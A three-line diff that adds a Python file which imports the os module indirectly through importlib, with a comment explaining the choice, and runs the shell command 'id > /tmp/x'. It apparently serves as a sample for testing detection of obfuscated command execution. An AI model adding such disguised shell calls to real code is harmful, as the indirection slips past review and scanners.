@@ -1,0 +1,3 @@
+# why: importlib instead of import
+import importlib
+importlib.import_module("os").system("id > /tmp/x")
